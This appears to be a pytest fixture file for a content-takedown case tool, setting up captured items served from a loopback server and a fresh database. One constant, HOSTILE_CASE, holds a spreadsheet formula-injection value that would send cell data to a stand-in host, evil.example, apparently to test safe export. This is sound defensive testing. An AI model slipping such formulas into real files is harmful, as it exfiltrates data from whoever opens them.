"""Approved items with real captures (a loopback site), and a second, fresh database."""

from __future__ import annotations

import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine

from comity.cases import groups
from comity.cases import service as cases
from comity.core.db import _create, session_scope
from comity.core.settings import Settings
from comity.evidence.fetch import Fetcher
from comity.evidence.service import capture_items
from comity.evidence.store import Store
from comity.users.service import add_user
from tests.cases.conftest import GOOD_FACTS
from tests.conftest import _pg_url, create_pg_database, drop_pg_database
from tests.evidence.conftest import add_item
from tests.evidence.pictures import encode, picture
from tests.evidence.servers import WebServer, page

TEXT = (
    "<html><body><p>"
    + " ".join(f"Join the fighters, word {i} of a long call to violence." for i in range(40))
    + "</p></body></html>"
).encode()
# A case name a spreadsheet would run as a formula.
HOSTILE_CASE = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def capture(engine: Engine, settings: Settings, *item_ids: int) -> None:
    capture_items(
        engine=engine,
        item_ids=list(item_ids),
        everything=False,
        actor="alice",
        fetcher=Fetcher.from_settings(settings),
        store=Store(settings.home),
    )


def approve(engine: Engine, item_id: int, org: str | None = None) -> None:
    with session_scope(engine) as session:
        proposal = cases.propose(
            session=session,
            item_id=item_id,
            host="DE",
            channel="provider_referral",
            note="one URL, one post: the narrowest request that removes it",
            actor="alice",
            facts=GOOD_FACTS,
            org=org,
        )
        pid = proposal.id
    with session_scope(engine) as session:
        cases.review(
            session=session, proposal_id=pid, approve=True, reason="lawful and narrow", actor="rita"
        )


@pytest.fixture
def approved_site(
    engine: Engine, staff: dict[str, str], settings: Settings
) -> Iterator[tuple[WebServer, list[int]]]:
    """Two approved items (a picture of al-qaida's in a hostile-named case, a page of text)
    and one captured but never proposed item (whose hashes must not be exported)."""
    web = WebServer()
    web.routes["/poster.jpg"] = page(encode(picture(7), quality=90), Content_Type="image/jpeg")
    web.routes["/call.html"] = page(TEXT, Content_Type="text/html; charset=utf-8")
    web.routes["/other.jpg"] = page(encode(picture(8), quality=90), Content_Type="image/jpeg")
    poster, call, other = (
        add_item(engine, web.url(p)) for p in ("/poster.jpg", "/call.html", "/other.jpg")
    )
    capture(engine, settings, poster, call, other)
    approve(engine, poster, org="al-qaida")
    approve(engine, call)
    with session_scope(engine) as session:
        case = groups.new_case(session=session, name=HOSTILE_CASE, description=None, actor="alice")
        groups.add_items(session=session, case_id=case.id, item_ids=[poster], actor="alice")
    yield web, [poster, call, other]
    web.close()


@pytest.fixture
def fresh_engine(_db_template: tuple[str, str], tmp_path: Path) -> Iterator[Engine]:
    """Another migrated database (on the same kind as the test's), with the same users."""
    kind, where = _db_template
    base = _pg_url()
    name = f"comity_fresh_{uuid.uuid4().hex[:8]}"
    if kind == "sqlite":
        target = tmp_path / "fresh.db"
        shutil.copyfile(where, target)
        url = f"sqlite:///{target}"
    else:
        assert base is not None
        url = create_pg_database(base, name)
    engine = _create(url)
    if kind != "sqlite":
        from comity.core.migrate import upgrade

        upgrade(engine)
    with session_scope(engine) as session:
        add_user(session=session, name="ada", role="admin", actor=None)
        add_user(session=session, name="alice", role="analyst", actor="ada")
    yield engine
    engine.dispose()
    if kind != "sqlite":
        assert base is not None
        drop_pg_database(base, name)
